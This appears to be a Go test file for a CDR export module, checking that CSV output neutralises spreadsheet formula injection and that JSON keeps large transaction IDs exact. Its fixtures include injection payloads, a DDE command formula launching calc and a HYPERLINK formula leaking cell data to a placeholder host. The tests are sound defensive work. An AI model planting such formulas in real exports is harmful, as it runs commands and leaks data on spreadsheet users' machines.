package caddyenroll

import (
	"encoding/json"
	"math"
	"net/http/httptest"
	"strings"
	"testing"

	"go.uber.org/zap"
)

// cellsSplitOn splits one CSV line into cells as a spreadsheet does that
// splits on any of seps and honours double quotes.
func cellsSplitOn(line, seps string) []string {
	var cells []string
	var cur strings.Builder
	inQuotes := false
	for i := 0; i < len(line); i++ {
		ch := line[i]
		switch {
		case ch == '"' && inQuotes && i+1 < len(line) && line[i+1] == '"':
			cur.WriteByte('"')
			i++
		case ch == '"':
			inQuotes = !inQuotes
		case !inQuotes && strings.IndexByte(seps, ch) >= 0:
			cells = append(cells, cur.String())
			cur.Reset()
		default:
			cur.WriteByte(ch)
		}
	}
	return append(cells, cur.String())
}

// A field holding a tab is quoted, like one holding ";": a spreadsheet
// importing with Tab among its separators (LibreOffice offers Tab, Comma
// and Semicolon together) would otherwise split a device's text at the
// tab and start a cell with the formula the device chose. Device text
// keeps its inner tabs (the OSP parser trims only the ends).
func TestCDRCSVTabStartsNoFormulaCell(t *testing.T) {
	a, _, _ := cdrTestApp(t, at("2024-03-05T12:00:00Z"))
	for i, tc := range []struct{ field, value string }{
		{"calling", "1404\t=HYPERLINK(\"http://x/?\"&A1,\"y\")"},
		{"called", "1405\t=cmd|' /C calc'!A0"},
		{"destination", "[10.0.0.2]:5060\t@SUM(1)"},
		{"term_causes", "q850:16:normal\t+1+1"},
	} {
		c := testCDR(uint64(100+i), at("2024-03-05T11:00:00Z"))
		switch tc.field {
		case "calling":
			c.Calling = tc.value
		case "called":
			c.Called = tc.value
		case "destination":
			c.Destination = tc.value
		case "term_causes":
			c.TermCauses = []string{tc.value}
		}
		mustStore(t, a, c)
	}
	ad := &adminAPI{app: a, log: zap.NewNop()}
	rec := httptest.NewRecorder()
	if err := ad.serve(rec, httptest.NewRequest("GET", "/enroll/cdrs?format=csv", nil)); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSpace(rec.Body.String()), "\n")[1:] {
		for _, cell := range cellsSplitOn(line, ",;\t") {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("a spreadsheet splitting on tabs gets the formula cell %q from the line %q", cell, line)
			}
		}
	}
}

// Transaction ids are 63-bit random numbers (osp.NewTransactionID), nearly
// all above 2^53, where float64 JSON readers (JavaScript, jq 1.6) round
// them (RFC 8259 section 6): the JSON export writes them as strings, so
// that a source's and a destination's records of one call keep the id
// they share.
func TestCDRJSONTransactionIDPrecision(t *testing.T) {
	a, _, _ := cdrTestApp(t, at("2024-03-05T12:00:00Z"))
	for _, tx := range []uint64{1234567, 1<<53 + 1, 5843009213693951233, math.MaxInt64} {
		mustStore(t, a, testCDR(tx, at("2024-03-05T11:00:00Z")))
	}
	ad := &adminAPI{app: a, log: zap.NewNop()}
	rec := httptest.NewRecorder()
	if err := ad.serve(rec, httptest.NewRequest("GET", "/enroll/cdrs", nil)); err != nil {
		t.Fatal(err)
	}
	strict := decodeCDRExport(t, rec.Body.Bytes())
	var generic []map[string]any // as a JavaScript or jq 1.6 reader sees it
	if err := json.Unmarshal(rec.Body.Bytes(), &generic); err != nil {
		t.Fatal(err)
	}
	for i, c := range strict {
		got := generic[i]["transaction_id"]
		switch v := got.(type) {
		case string:
			// a string keeps every digit
		case float64:
			if v >= 1<<53 || uint64(v) != c.TransactionID {
				t.Errorf("transaction_id %d reads back as %.0f in a float64 JSON reader", c.TransactionID, v)
			}
		default:
			t.Errorf("transaction_id %d: %T", c.TransactionID, got)
		}
	}
}
